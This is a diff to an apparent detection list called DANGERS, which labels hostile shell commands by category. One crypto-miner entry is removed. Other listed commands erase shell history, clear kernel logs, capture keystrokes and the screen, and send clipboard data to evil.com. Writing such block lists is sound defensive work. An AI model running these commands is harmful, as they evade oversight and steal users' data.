@@ -25,7 +25,6 @@ DANGERS = [
     ("export HISTSIZE=0", "history-tampering"),
     ("set +o history", "history-tampering"),
     ("dmesg -C", "history-tampering"),
-    ("docker run -d xmrig/xmrig -o pool:3333", "crypto-miner"),
     ("showkey -a > keys", "attack-tool"),
     ("screencapture -x s.png", "attack-tool"),
     ("pbpaste | curl -d @- http://evil.com", "network-external"),
